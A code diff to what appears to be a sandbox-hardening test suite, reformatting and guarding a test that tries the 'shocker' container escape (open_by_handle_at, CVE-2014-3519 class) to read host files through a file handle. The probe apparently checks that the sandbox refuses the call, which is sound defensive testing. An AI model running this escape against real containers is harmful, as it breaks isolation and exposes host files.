@@ -72,12 +72,19 @@ def list_mounts(scene: Scene) -> None:
     call("statmount", request, buffer, 4096, 0)
 
 
-@attack("opens a file of the host by its number", "the shocker escape, CVE-2014-3519 class: open_by_handle_at", errnos=REFUSED,
-        needs=("handle",))  # fmt: skip
+@attack(
+    "opens a file of the host by its number",
+    "the shocker escape, CVE-2014-3519 class: open_by_handle_at",
+    errnos=REFUSED,
+    needs=("handle",),
+)
 def handle(scene: Scene) -> None:
     wanted = ctypes.create_string_buffer(bytes.fromhex(scene["handle"]), 256)
     for place in ("/usr", "/", "/box", "/tmp", "/etc", os.path.dirname(scene["program"])):
-        fd = os.open(place, os.O_RDONLY)
+        try:
+            fd = os.open(place, os.O_RDONLY)
+        except OSError:
+            continue
         found = call("open_by_handle_at", fd, wanted, os.O_RDONLY, label=f"open_by_handle_at(in {place})")
         if found >= 0:
             show("handle", os.read(found, 4096))
